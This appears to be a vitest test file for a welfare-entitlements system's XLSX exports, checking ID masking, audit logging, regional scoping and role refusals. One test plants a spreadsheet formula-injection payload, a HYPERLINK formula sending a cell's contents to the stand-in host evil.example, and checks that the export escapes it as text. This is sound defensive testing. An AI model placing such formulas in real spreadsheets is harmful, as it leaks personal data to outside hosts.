import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../app.js';
import type { Scope } from '../../platform/scope.js';
import { HEADER_ROW, XLSX_TYPE } from '../../platform/xlsx.js';
import { codeOf, createTestContext, dialects, userScope as scopeOf, type TestContext } from '../../testing/harness.js';
import { call, errorCode, loginAs } from '../../testing/http.js';
import { seedDemo } from '../demo/seed.js';
import { changeList, handleChange } from './entitlements.service.js';
import { exportChanges, exportPaused, exportPayments } from './exports.js';
import { pausedQueue, setPause } from './pauses.js';
import { today } from '../../platform/time.js';
import { paymentHistory } from './payment-history.js';

const MASKED_ID = /^\d{6}\*{12}$/;
const FULL_ID = /(?<!\d)\d{17}[\dXx](?!\d)/;
const INJECTION = '=HYPERLINK("http://evil.example/?d="&C4,"点我")';
const ALL = 100_000;

/** An exported sheet: title, note, and the rows below the header keyed by header. */
async function sheetOf(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const ws = wb.worksheets[0]!;
  const headers = (ws.getRow(HEADER_ROW).values as unknown[]).slice(1).map(String);
  const rows: Record<string, unknown>[] = [];
  const cells: ExcelJS.Cell[] = [];
  for (let r = HEADER_ROW + 1; r <= ws.rowCount; r++) {
    const row = ws.getRow(r);
    rows.push(Object.fromEntries(headers.map((h, i) => [h, row.getCell(i + 1).value])));
    row.eachCell((c) => cells.push(c));
  }
  ws.getRow(1).eachCell((c) => cells.push(c));
  ws.getRow(2).eachCell((c) => cells.push(c));
  return { title: String(ws.getCell('A1').value), note: String(ws.getCell('A2').value), headers, rows, cells };
}

/**
 * The entitlements lists as XLSX (issue 14): a run's change list, a person's payment history and
 * the paused list export the list's own rows for the same filters and scope, masked unless a
 * revealing role asks for full IDs, audited with the count, with every text cell kept text.
 */
describe.each(dialects)('entitlements exports (%s)', (dialect) => {
  let ctx: TestContext;
  let admin: Scope, town1: Scope, town2: Scope, grid1: Scope, assessor: Scope;
  let runId: number;

  const audits = (action: string) => ctx.db.selectFrom('audit_log').selectAll().where('action', '=', action).orderBy('seq').execute();
  const lastDetail = async (action: string) => JSON.parse((await audits(action)).at(-1)!.detail!) as Record<string, unknown>;

  beforeAll(async () => {
    ctx = await createTestContext(dialect, { runBatchSize: 150, loginRatePerMinute: 10_000 });
    await seedDemo(ctx, { elders: 500, seed: 14 });
    admin = await scopeOf(ctx, 'admin');
    town1 = await scopeOf(ctx, 'town1');
    town2 = await scopeOf(ctx, 'town2');
    grid1 = await scopeOf(ctx, 'grid1');
    assessor = await scopeOf(ctx, 'assessor1');
    const latest = await ctx.db
      .selectFrom('entitlement_runs')
      .select('id')
      .where('status', '=', 'finished')
      .where('changes', '>', 0)
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    runId = latest.id;
    // the demo's changes are in the second town: its grid worker is one of its villages with changes
    const village = await ctx.db
      .selectFrom('decision_changes')
      .select(['region_code', (eb) => eb.fn.countAll<number>().as('n')])
      .where('run_id', '=', runId)
      .where('region_code', 'like', `${town2.regionPrefix}%`)
      .groupBy('region_code')
      .orderBy('n', 'desc')
      .executeTakeFirstOrThrow();
    await ctx.db.updateTable('users').set({ region_code: village.region_code }).where('username', '=', 'grid1').execute();
    grid1 = await scopeOf(ctx, 'grid1');
    // officers' pauses in both towns, so the paused list has entries of two reasons in each
    for (const [scope, reason] of [
      [town1, 'abroad'],
      [town1, 'verification'],
      [town2, 'abroad'],
      [town2, 'missing'],
    ] as const) {
      const p = await ctx.db
        .selectFrom('persons')
        .select('id')
        .where('region_code', 'like', `${scope.regionPrefix}%`)
        .where('status', '=', 'active')
        .orderBy('id', 'desc')
        .offset(reason === 'abroad' ? 0 : 1)
        .limit(1)
        .executeTakeFirstOrThrow();
      await setPause(ctx, scope, p.id, { reason, items: null, since: today().slice(0, 7), note: '测试暂停' });
    }
  }, 240_000);
  afterAll(async () => ctx?.cleanup());

  describe('the change list', () => {
    const listed = async (scope: Scope, f: { kind?: 'new' | 'ended' | 'amount' | 'verify'; handled?: boolean } = {}) =>
      (await changeList(ctx, scope, runId, { ...f, page: 1, pageSize: ALL })).items;

    it("exports the list's rows for the same filters, masked, audited with the count", async () => {
      const list = await listed(admin);
      expect(list.length).toBeGreaterThan(0);
      // one followed up, so the handled filter splits the list
      await handleChange(ctx, admin, list[0]!.id, true);
      for (const f of [{}, { handled: true }, { handled: false }, { kind: list[0]!.kind }] as const) {
        const rows = await listed(admin, f);
        const file = await exportChanges(ctx, admin, runId, { ...f, full: false });
        const sheet = await sheetOf(file.body);
        expect(sheet.headers).toEqual(['序号', '姓名', '身份证号', '镇街', '村社区', '项目', '变动', '原值', '新值', '待核实事实', '已跟进', '跟进人/时间']);
        expect(sheet.rows.map((r) => [r['姓名'], r['身份证号'], r['村社区'], r['项目']])).toEqual(
          rows.map((c) => [c.name, c.idMasked, c.regionName, c.itemName]),
        );
        expect(sheet.rows.every((r) => MASKED_ID.test(String(r['身份证号'])))).toBe(true);
        expect(sheet.cells.some((c) => FULL_ID.test(String(c.value)))).toBe(false);
        expect(sheet.note).toContain('身份证号已脱敏');
        expect(sheet.note).toContain(`共 ${rows.length} 条`);
        expect(await lastDetail('entitlements.changes_export')).toMatchObject({ list: 'changes', full: false, count: rows.length });
      }
      const followed = await sheetOf((await exportChanges(ctx, admin, runId, { handled: true, full: false })).body);
      expect(followed.rows[0]).toMatchObject({ 已跟进: '是' });
      expect(String(followed.rows[0]!['跟进人/时间'])).toContain('县民政局管理员');
      expect(followed.note).toContain('已跟进');
    });

    it('gives full IDs only when asked, audited with the count disclosed', async () => {
      const rows = await listed(town2);
      const before = (await audits('entitlements.changes_export')).length;
      const sheet = await sheetOf((await exportChanges(ctx, town2, runId, { full: true })).body);
      expect(sheet.rows.length).toBe(rows.length);
      expect(sheet.rows.every((r) => FULL_ID.test(String(r['身份证号'])))).toBe(true);
      expect(sheet.note).toContain('含完整身份证号');
      const entries = await audits('entitlements.changes_export');
      expect(entries.length).toBe(before + 1);
      expect(entries.at(-1)!.fields).toContain('idNumber');
      expect(JSON.parse(entries.at(-1)!.detail!)).toMatchObject({ full: true, count: rows.length });
    });

    it("keeps a grid worker's and a town's export to their region", async () => {
      for (const scope of [town2, grid1, town1]) {
        const rows = await listed(scope);
        const sheet = await sheetOf((await exportChanges(ctx, scope, runId, { full: false })).body);
        expect(sheet.rows.map((r) => r['姓名'])).toEqual(rows.map((c) => c.name));
      }
      const all = (await listed(admin)).length;
      const grid = (await listed(grid1)).length;
      expect(grid).toBeLessThan(all);
      expect(grid).toBeGreaterThan(0);
      expect(new Set((await listed(grid1)).map((c) => c.regionName)).size).toBe(1);
      expect(await listed(town1)).toEqual([]);
    });

    it('keeps a name that starts a formula as text', async () => {
      const victim = (await listed(town2))[0]!;
      const name = (await ctx.db.selectFrom('persons').select('name').where('id', '=', victim.personId).executeTakeFirstOrThrow()).name;
      await ctx.db.updateTable('persons').set({ name: INJECTION }).where('id', '=', victim.personId).execute();
      try {
        const sheet = await sheetOf((await exportChanges(ctx, town2, runId, { full: false })).body);
        expect(sheet.rows.find((r) => String(r['姓名']).includes('HYPERLINK'))!['姓名']).toBe(`'${INJECTION}`);
        expect(sheet.cells.every((c) => c.formula === undefined && c.type !== ExcelJS.ValueType.Formula)).toBe(true);
      } finally {
        await ctx.db.updateTable('persons').set({ name }).where('id', '=', victim.personId).execute();
      }
    });

    it('refuses a role without the list', async () => {
      expect(await codeOf(exportChanges(ctx, assessor, runId, { full: false }))).toBe('FORBIDDEN');
      expect(await codeOf(exportChanges(ctx, assessor, runId, { full: true }))).toBe('FORBIDDEN');
      expect(await codeOf(exportChanges(ctx, admin, runId, { full: false, maxRows: 1 }))).toBe('EXPORT_TOO_LARGE');
    });
  });

  describe('the payment history', () => {
    let person: number;
    beforeAll(async () => {
      const line = await ctx.db
        .selectFrom('roll_lines')
        .innerJoin('payment_rolls', 'payment_rolls.id', 'roll_lines.roll_id')
        .select('roll_lines.person_id')
        .where('payment_rolls.town_code', '=', town1.regionCode)
        .where('payment_rolls.status', 'in', ['draft', 'submitted', 'returned', 'approved'])
        .orderBy('roll_lines.person_id')
        .executeTakeFirstOrThrow();
      person = line.person_id;
    });

    it("exports the profile's lines under the person's name and masked ID, audited", async () => {
      const { items } = await paymentHistory(ctx, town1, person);
      expect(items.length).toBeGreaterThan(0);
      const file = await exportPayments(ctx, town1, person);
      const sheet = await sheetOf(file.body);
      expect(sheet.headers).toEqual(['序号', '月份', '项目', '类别', '应发（元）', '实发（元）', '状态', '暂停原因/备注', '名册号', '差额月份及原因']);
      expect(sheet.rows.map((r) => [r['月份'], r['项目'], r['应发（元）'], r['实发（元）'], r['名册号']])).toEqual(
        items.map((l) => [l.period, l.itemName, l.standardFen / 100, l.amountFen / 100, l.rollId]),
      );
      expect(sheet.rows.every((r) => ['发放', '补发', '追回'].includes(String(r['类别'])))).toBe(true);
      const label = await ctx.db.selectFrom('persons').select(['name', 'id_masked']).where('id', '=', person).executeTakeFirstOrThrow();
      expect(sheet.title).toContain(label.id_masked);
      expect(sheet.title).toContain(label.name);
      expect(sheet.cells.some((c) => FULL_ID.test(String(c.value)))).toBe(false);
      expect(await lastDetail('entitlements.payments_export')).toMatchObject({ list: 'payments', count: items.length, persons: [person] });
    });

    it("refuses a person outside the viewer's region and a role without the list", async () => {
      expect(await codeOf(exportPayments(ctx, town2, person))).toBe('NOT_FOUND');
      expect(await codeOf(exportPayments(ctx, assessor, person))).toBe('FORBIDDEN');
    });
  });

  describe('the paused list', () => {
    it("exports the page's entries for the same filters, masked, audited, and the region's only", async () => {
      const all = await pausedQueue(ctx, admin, { page: 1, pageSize: ALL });
      expect(all.total).toBeGreaterThan(0);
      for (const [scope, reason] of [
        [admin, undefined],
        [admin, 'abroad'],
        [town1, 'verification'],
        [town1, undefined],
        [town2, undefined],
      ] as const) {
        const q = await pausedQueue(ctx, scope, { period: all.period, reason, page: 1, pageSize: ALL });
        const sheet = await sheetOf((await exportPaused(ctx, scope, { period: all.period, reason })).body);
        expect(sheet.rows.map((r) => [r['姓名'], r['身份证号'], r['暂停原因']])).toEqual(q.items.map((e) => [e.name, e.idMasked, e.reasonText]));
        expect(sheet.rows.every((r) => MASKED_ID.test(String(r['身份证号'])))).toBe(true);
        expect(sheet.note).toContain(`月份 ${all.period}`);
        expect(await lastDetail('rolls.paused_export')).toMatchObject({ list: 'paused', count: q.items.length, full: false });
      }
      const town = await pausedQueue(ctx, town1, { period: all.period, page: 1, pageSize: ALL });
      expect(town.total).toBeLessThan(all.total);
    });

    it('refuses above the cap and a role without the list', async () => {
      expect(await codeOf(exportPaused(ctx, admin, { maxRows: 1 }))).toBe('EXPORT_TOO_LARGE');
      expect(await codeOf(exportPaused(ctx, grid1, {}))).toBe('FORBIDDEN');
      expect(await codeOf(exportPaused(ctx, assessor, {}))).toBe('FORBIDDEN');
    });
  });

  describe('over HTTP', () => {
    let app: FastifyInstance;
    beforeAll(async () => {
      app = await buildApp(ctx, { serveWeb: false });
    });
    afterAll(async () => app?.close());

    it('answers each export as an XLSX file with the list filters, and refuses what the role may not', async () => {
      const town = await loginAs(app, 'town2');
      for (const url of [`/api/runs/${runId}/changes/export?handled=false&full=true`, '/api/paused/export?reason=abroad']) {
        const res = await call(app, town, { method: 'GET', url });
        expect(res.statusCode).toBe(200);
        expect(res.headers['content-type']).toBe(XLSX_TYPE);
        expect(String(res.headers['content-disposition'])).toMatch(/attachment/);
      }
      const full = await sheetOf((await call(app, town, { method: 'GET', url: `/api/runs/${runId}/changes/export?full=true` })).rawPayload);
      expect(full.rows.every((r) => FULL_ID.test(String(r['身份证号'])))).toBe(true);
      const grid = await loginAs(app, 'grid1');
      expect(errorCode(await call(app, grid, { method: 'GET', url: '/api/paused/export' }))).toBe('FORBIDDEN');
    });
  });
});
